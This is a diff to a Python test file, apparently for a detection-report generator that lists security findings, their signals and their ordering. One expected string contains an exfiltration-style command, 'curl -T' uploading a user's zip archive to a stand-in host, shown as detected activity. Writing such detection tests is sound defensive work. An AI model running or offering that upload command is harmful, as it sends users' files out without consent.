@@ -146,7 +146,7 @@ def test_how_we_know_shows_command_line_signals_and_events_in_order_of_time():
     assert known.index("### 1. Rule archive\\_then\\_network") < known.index("### 2. Rule transfer\\_tool")
     assert known.split("### 2. Rule transfer\\_tool\n\n")[1] == (
         f"2024-05-01 09:00:00 UTC, medium, score 1, finding `{UPLOAD.id[:12]}`. `curl.exe`, started by `cmd.exe`, "
-        "process 31:\n\n"
+        "process 31, destination `https://files.example/in`:\n\n"
         "```text\ncurl -T C:\\Users\\anna\\q3.zip https://files.example/in\n```\n\n"
         "- Signal `IsUpload`: ` -T  ` in `CommandLine` at character 6\n"
         "- Signal `Port`: `8443` in `DestinationPort`\n"
@@ -316,7 +316,7 @@ def test_a_body_is_bounded_however_many_findings_there_are(count):
     known = section(made.body, "How we know")
     assert f"finding `{findings[count // 2].id[:12]}`" in known
     if count > 30:
-        shown = known.count("### ") + known.count("\n- 2024-")
+        shown = known.count("### ") - 1 + known.count("\n- 2024-")
         assert f"**{count - shown:,} more findings** are not shown" in known
     page = commonmark(made.body)
     assert set(page.tags) <= TAGS
@@ -331,7 +331,7 @@ def test_many_findings_of_two_rules_show_one_of_each_whole():
     findings.append(make("odd", 5, branch="collection"))
     known = section(drafted(*findings).body, "How we know")
     assert "Rule collection\n\n2024" in known
-    assert known.count("\n\n- 2024-05-01") > 20
+    assert known.split("### In short\n\n")[1].count("- 2024-05-01") > 20
 
 
 def test_a_command_that_must_be_pasted_is_never_cut():
